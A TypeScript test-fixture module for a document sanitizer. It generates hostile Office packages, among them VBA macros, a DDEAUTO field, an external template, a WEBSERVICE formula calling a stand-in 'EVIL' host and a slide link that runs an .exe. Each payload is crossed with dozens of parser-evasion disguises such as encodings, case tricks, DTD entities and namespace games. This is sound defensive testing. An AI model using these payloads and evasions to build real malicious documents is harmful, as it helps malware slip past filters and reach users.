import { writeZip } from '../../../../sanitizer/container/zip/writer.ts'
import type { FindingKind, RefusalCode } from '../../../../sanitizer/protocol.ts'
import { filesOf, MARKER, R, run, wordType } from '../office-package.ts'
import { blob, EVIL, type HostileOffice, type Package } from './model.ts'
import { formulaPlaces, workbook } from './sheet-places.ts'
import { deck, SLIDE } from './slide-places.ts'
import { document, wordPlaces } from './word-places.ts'
import { field } from './word-threats.ts'

/** Ways to write the same package so that a filter and a reader come to see different things (threats §3.2). */

const dde = field(run(`<w:instrText> DDEAUTO c:\\\\${MARKER} </w:instrText>`))
const vba = (from: string, folder: string) => ({
  parts: [{ path: `${folder}/vbaProject.bin`, type: 'application/vnd.ms-office.vbaProject', content: blob }],
  rels: [
    { from, id: 'rIdV', type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: `/${folder}/vbaProject.bin` },
  ],
})
/** One threat for each way that a package can carry it: a part, a field, a relationship, a formula, an action. */
const payloads: Readonly<Record<string, readonly [seen: readonly FindingKind[], file: Package | undefined]>> = {
  'macros in Word': [
    ['macro'],
    document('', { ...vba('word/document.xml', 'word'), mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ],
  'macros in Excel': [
    ['macro'],
    workbook({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }, vba('xl/workbook.xml', 'xl')),
  ],
  'DDE in a header': [['dde'], wordPlaces['first header']?.({ content: dde })],
  'template from outside': [
    ['attached-template'],
    document('', {
      parts: [
        {
          path: 'word/settings.xml',
          type: wordType('settings'),
          content:
            '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rIdE"/></w:settings>',
        },
      ],
      rels: [
        { from: 'word/document.xml', id: 'rIdS', type: `${R}settings`, target: 'settings.xml' },
        { from: 'word/settings.xml', id: 'rIdE', type: `${R}attachedTemplate`, target: EVIL, external: true },
      ],
    }),
  ],
  'formula that fetches': [['formula'], formulaPlaces.cell?.({ spelt: `WEBSERVICE("${EVIL}")`, quoted: '' })],
  'link that runs': [
    ['action'],
    deck(
      '<p:sp><p:nvSpPr><p:cNvPr id="3" name="b"><a:hlinkClick r:id="rIdE" action="ppaction://program"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>',
      '',
      { rels: [{ from: SLIDE, id: 'rIdE', type: `${R}hyperlink`, target: `${MARKER}.exe`, external: true }] },
    ),
  ],
}

interface File {
  readonly name: string
  readonly bytes: Uint8Array
}
type Change = (files: readonly File[]) => readonly File[]
interface Disguise {
  readonly change: Change
  /** The inspection need not name the threat: it sees the disguise. */
  readonly isOpaque?: true
  readonly refused?: readonly RefusalCode[]
}

const isXml = ({ name, bytes }: File): boolean => bytes[0] === 0x3c && name !== ''
const isPackaging = ({ name }: File): boolean => name.endsWith('.rels') || name === '[Content_Types].xml'
const eachXml =
  (change: (text: string) => string | Buffer): Change =>
  (files) =>
    files.map((file) => (isXml(file) ? { name: file.name, bytes: Buffer.from(change(Buffer.from(file.bytes).toString())) } : file))
const eachPart =
  (change: (text: string) => string): Change =>
  (files) =>
    files.map((file) => (isPackaging(file) ? file : (eachXml(change)([file])[0] ?? file)))
const inTypes =
  (change: (text: string) => string): Change =>
  (files) =>
    files.map((file) => (file.name === '[Content_Types].xml' ? (eachXml(change)([file])[0] ?? file) : file))
const inRels =
  (change: (text: string) => string): Change =>
  (files) =>
    files.map((file) => (file.name.endsWith('.rels') ? (eachXml(change)([file])[0] ?? file) : file))
const named =
  (change: (name: string) => string): Change =>
  (files) =>
    files.map(({ name, bytes }) => ({ name: change(name), bytes }))
const also =
  (name: string, content: string): Change =>
  (files) => [...files, { name, bytes: Buffer.from(content) }]
const inOrder =
  (...changes: readonly Change[]): Change =>
  (files) =>
    changes.reduce((so, change) => change(so), files)

/** Targets of relationships that stay inside. */
const inTargets = (change: (target: string) => string): Change =>
  inRels((text) => text.replace(/Target="([^"]*)"\/>/g, (_, target: string) => `Target="${change(target)}"/>`))
const percent = (text: string): string => text.replace(/[a-z](?=[a-z]*\.)/, (letter) => `%${letter.charCodeAt(0).toString(16)}`)
const wide = (swap: boolean) => (text: string) => {
  const bytes = Buffer.from(`\ufeff${text.replace(/^<\?xml[^>]*\?>/, '')}`, 'utf16le')
  return swap ? bytes.swap16() : bytes
}
const quadruple = (text: string): Buffer =>
  Buffer.concat([...`\ufeff${text}`].map((each) => Buffer.from(Uint32Array.of(each.codePointAt(0) ?? 0).buffer)))
const declaredAs =
  (encoding: string) =>
  (text: string): string =>
    `<?xml version="1.0" encoding="${encoding}"?>${text}`
const MC = 'http://schemas.openxmlformats.org/markup-compatibility/2006'
const STRICT = (text: string): string =>
  text
    .replaceAll(/http:\/\/schemas\.openxmlformats\.org\/officeDocument\/2006\//g, 'http://purl.oclc.org/ooxml/officeDocument/')
    .replaceAll(/http:\/\/schemas\.openxmlformats\.org\/(\w+)\/2006\/(\w+)/g, (whole, family: string, name: string) =>
      family === 'package' || family === 'markup-compatibility' ? whole : `http://purl.oclc.org/ooxml/${family}/${name}`,
    )
const PREFIXES = 'w|p|a|r|v|o|mc|wp|pic|xdr|c'
const renamedPrefixes = (text: string): string =>
  text.replaceAll(new RegExp(`(</?|\\s)(${PREFIXES}):`, 'g'), '$1q-$2:').replaceAll(new RegExp(`xmlns:(${PREFIXES})=`, 'g'), 'xmlns:q-$1=')
const defaulted = (text: string): string => {
  const [, prefix] = /^<([wp]):/.exec(text) ?? []
  if (!prefix) return text
  const uri = `http://schemas.openxmlformats.org/${prefix === 'w' ? 'wordprocessingml' : 'presentationml'}/2006/main`
  return text.replaceAll(new RegExp(`(</?)${prefix}:`, 'g'), '$1').replace(/^<\w+/, `$& xmlns="${uri}"`)
}
const withSecond = (text: string): string =>
  text.replace(/<Relationship /, `<Relationship Id="rId1" Type="${R}theme" Target="x.xml"/><Relationship `)
const entity = (text: string): string => `<!DOCTYPE x [<!ENTITY e "${MARKER}">]>${text}`
const MAIN_OVERRIDE = /<Override PartName="(\/(?:word\/document|xl\/workbook|ppt\/presentation)\.xml)"/

const disguises: Readonly<Record<string, Disguise>> = {
  'as it is': { change: (files) => files },
  'folders in capitals in the ZIP': { change: named((name) => name.replace(/^(word|xl|ppt)\//, (folder) => folder.toUpperCase())) },
  'targets in another case': { change: inTargets((target) => target.toUpperCase().replace('.XML', '.xml')) },
  'part names in another case in the content types': {
    change: inTypes((text) => text.replaceAll(/PartName="([^"]*)"/g, (_, name: string) => `PartName="${name.toUpperCase()}"`)),
  },
  'relationship parts in capitals': {
    change: named((name) => name.replace('_rels/', '_RELS/').replace(/\.rels$/, '.RELS')),
    isOpaque: true,
  },
  'targets percent-encoded': { change: inTargets(percent) },
  'names percent-encoded in the ZIP': {
    change: named((name) => (name.includes('[') || name.endsWith('.rels') ? name : percent(name))),
    isOpaque: true,
  },
  'targets with backslashes': { change: inTargets((target) => target.replaceAll('/', '\\')) },
  'targets by way of other folders': { change: inTargets((target) => (target.startsWith('/') ? `/x/../.${target}` : `./x/../${target}`)) },
  'targets with a fragment': { change: inTargets((target) => `${target}#${MARKER}`) },
  'ISO Strict names': { change: eachXml(STRICT) },
  'prefixes of its own': { change: eachPart(renamedPrefixes) },
  'a default namespace instead of a prefix': { change: eachPart(defaulted) },
  'prefixes in the content types': {
    change: inTypes((text) => text.replaceAll(/<(\/?)(Types|Override|Default)/g, '<$1ct:$2').replace('xmlns=', 'xmlns:ct=')),
    isOpaque: true,
  },
  'prefixes in the relationships': {
    change: inRels((text) => text.replaceAll(/<(\/?)(Relationship)/g, '<$1rel:$2').replace('xmlns=', 'xmlns:rel=')),
    isOpaque: true,
  },
  'UTF-16, little end first': { change: eachXml(wide(false)) },
  'UTF-16, big end first': { change: eachXml(wide(true)) },
  'UTF-32': { change: eachXml(quadruple), refused: ['malformed'], isOpaque: true },
  'UTF-7 by its declaration': { change: eachPart(declaredAs('UTF-7')), refused: ['malformed', 'ambiguous'], isOpaque: true },
  'Shift_JIS by its declaration': { change: eachPart(declaredAs('Shift_JIS')), refused: ['malformed', 'ambiguous'], isOpaque: true },
  'UTF-16 by its declaration, UTF-8 in truth': { change: eachPart(declaredAs('UTF-16')), refused: ['malformed', 'ambiguous'] },
  'EBCDIC by its first bytes': {
    change: eachXml((text) => Buffer.concat([Buffer.from('4c6fa794', 'hex'), Buffer.from(text)])),
    refused: ['malformed'],
    isOpaque: true,
  },
  'a base for all its addresses': { change: eachPart((text) => text.replace(/^<[\w:]+/, `$& xml:base="${EVIL}/"`)) },
  'a namespace that must be understood': {
    change: eachPart((text) => text.replace(/^<[\w:]+/, `$& xmlns:e="urn:${MARKER}" xmlns:m0="${MC}" m0:MustUnderstand="e"`)),
  },
  'a mark before UTF-8': { change: eachXml((text) => `\ufeff${text}`) },
  'an XML declaration of its own': { change: eachPart((text) => `<?xml version='1.0' encoding='utf-8' standalone='no'?>\r\n${text}`) },
  'single quotation marks': { change: eachXml((text) => text.replaceAll(/="([^"']*)"/g, "='$1'")) },
  'white space in the tags': {
    change: eachXml((text) => text.replaceAll(/ ([\w:]+)="/g, '\r\n\t$1 \t= "').replaceAll(/<\/([\w:]+)>/g, '</$1 \n>')),
  },
  'comments between the tags': { change: eachPart((text) => text.replaceAll(/(<\/[\w:]+>)/g, `$1<!-- ${MARKER} -->`)) },
  'instructions between the tags': {
    change: eachPart((text) => text.replaceAll(/(<\/[\w:]+>)/g, `$1<?mso-application progid="${MARKER}"?>`)),
  },
  'every letter of the values a reference': {
    change: eachPart((text) =>
      text.replaceAll(
        / (action|r:id|w:fldCharType|Target)="([^"]*)"/g,
        (_, name: string, value: string) => ` ${name}="${[...value].map((each) => `&#x${each.codePointAt(0)?.toString(16)};`).join('')}"`,
      ),
    ),
  },
  'a kind of content with capitals and a parameter': {
    change: inTypes((text) =>
      text.replaceAll(/ContentType="([^"]*main[^"]*)"/g, (_, type: string) => `ContentType="${type.toUpperCase()}"`),
    ),
  },
  'the kind of the main part by its extension': {
    change: inTypes((text) => {
      const type = /<Override PartName="\/(?:word\/document|xl\/workbook|ppt\/presentation)\.xml" ContentType="([^"]*)"\/>/.exec(text)
      return text
        .replace(type?.[0] ?? '', '')
        .replace('Extension="xml" ContentType="application/xml"', `Extension="xml" ContentType="${type?.[1]}"`)
    }),
  },
  'parts that nothing leads to': { change: also(`word/${MARKER}.bin`, MARKER) },
  'parts in pieces': { change: inOrder(also('word/x.xml/[0].piece', MARKER), also('word/x.xml/[1].last.piece', MARKER)), isOpaque: true },
  'rubbish kept by the writer': { change: also('[trash]/0000.dat', MARKER), isOpaque: true },
  'relationships of relationships': {
    change: also(
      '_rels/_rels/.rels.rels',
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${R}image" Target="${EVIL}" TargetMode="External"/></Relationships>`,
    ),
  },
  'an extension that may be ignored around everything': {
    change: eachPart((text) =>
      text
        .replace(
          /^<[\w:]+/,
          `$& xmlns:e="urn:${MARKER}" e:a="${MARKER}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="e" mc:ProcessContent="e:*"`,
        )
        .replace(/ xmlns:mc="[^"]*"(?=.* xmlns:mc=)/, ''),
    ),
  },
  'two relationships with one id': { change: inRels(withSecond), refused: ['ambiguous'], isOpaque: true },
  'a mode of the target in small letters': {
    change: inRels((text) => text.replace(/"\/>/, '" TargetMode="external"/>')),
    refused: ['malformed'],
    isOpaque: true,
  },
  'a DTD in the relationships': { change: inRels(entity), refused: ['malformed'], isOpaque: true },
  'a DTD in the content types': { change: inTypes(entity), refused: ['malformed'], isOpaque: true },
  'a DTD in the main part': {
    change: eachPart((text) => (/^<(?:w:document|workbook|p:presentation)/.test(text) ? entity(text) : text)),
    refused: ['malformed'],
    isOpaque: true,
  },
  'two main parts': {
    change: inRels((text) => text.replace(/<Relationship [^>]*officeDocument"[^>]*>/, (one) => one + one.replace('rId1', 'rId2'))),
    refused: ['ambiguous'],
  },
  'a main part outside': {
    change: inRels((text) => text.replace(/(<Relationship [^>]*\/officeDocument"[^>]*)\/>/, '$1 TargetMode="External"/>')),
    refused: ['malformed'],
  },
  'no content types': {
    change: (files) => files.filter(({ name }) => name !== '[Content_Types].xml'),
    refused: ['malformed'],
    isOpaque: true,
  },
  'content types twice, in another case': { change: also('[content_types].xml', '<Types/>'), refused: ['ambiguous'], isOpaque: true },
  'a main part of two kinds': {
    change: inTypes((text) => text.replace(MAIN_OVERRIDE, '<Override PartName="$1" ContentType="application/xml"/>$&')),
    refused: ['ambiguous', 'malformed', 'type-unsupported'],
  },
  'a main part of no kind': {
    change: inTypes((text) => text.replace(MAIN_OVERRIDE, '<Override PartName="/x.xml"')),
    refused: ['type-unsupported'],
  },
}

const disguisedAs = (name: string, { change, isOpaque, refused }: Disguise): readonly HostileOffice[] =>
  Object.entries(payloads).flatMap(([payload, [seen, file]]) =>
    file
      ? [
          {
            name: `${name}: ${payload}`,
            format: file.format,
            bytes: () => writeZip(change(filesOf(file.parts, file.rels))),
            ...(!isOpaque && { seen }),
            ...(refused && { refused }),
          },
        ]
      : [],
  )

export const disguised: Readonly<Record<string, readonly HostileOffice[]>> = Object.fromEntries(
  Object.entries(disguises).map(([name, disguise]) => [name, disguisedAs(name, disguise)]),
)
